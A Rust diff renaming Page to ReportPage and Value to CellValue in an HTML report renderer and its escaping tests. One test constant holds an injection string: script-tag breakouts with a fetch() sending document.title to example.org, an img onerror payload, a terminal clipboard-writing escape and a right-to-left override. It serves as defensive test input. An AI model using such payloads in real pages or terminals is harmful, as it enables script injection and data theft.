@@ -45,14 +45,14 @@ pub enum Block {
 
 /// A page.
 #[derive(Debug, Clone, PartialEq)]
-pub struct Page {
+pub struct ReportPage {
     /// Its title.
     pub title: String,
     /// Its parts.
     pub blocks: Vec<Block>,
 }
 
-impl Page {
+impl ReportPage {
     /// The whole page as one HTML file.
     pub fn html(&self) -> String {
         let title = escape::html(&escape::one_line(&self.title));
@@ -167,14 +167,14 @@ pub(super) fn table(table: &Table) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::report::{Column as Head, Provenance, Value};
+    use crate::report::{CellValue, Column as Head, Provenance};
 
     const HOSTILE: &str = "</script></pre><script>fetch('http://example.org/'+document.title)</script><img src=x onerror=alert(1)>\u{1b}]52;c;\u{202e}";
 
     #[test]
     fn hostile_text_opens_no_tag_anywhere() {
         let mut table = Table::new(HOSTILE, vec![Head::left(HOSTILE)], Provenance::new(HOSTILE));
-        table.row(vec![Value::Text(HOSTILE.into())]);
+        table.row(vec![CellValue::Text(HOSTILE.into())]);
         let line = MarkedLine {
             mark: '»',
             text: HOSTILE.into(),
@@ -192,7 +192,7 @@ mod tests {
             name: HOSTILE.into(),
             text: HOSTILE.into(),
         };
-        let page = Page {
+        let page = ReportPage {
             title: HOSTILE.into(),
             blocks: vec![
                 Block::Heading(HOSTILE.into()),
@@ -211,7 +211,7 @@ mod tests {
 
     #[test]
     fn the_policy_names_the_hash_of_the_only_script() {
-        let html = Page {
+        let html = ReportPage {
             title: "t".into(),
             blocks: vec![],
         }
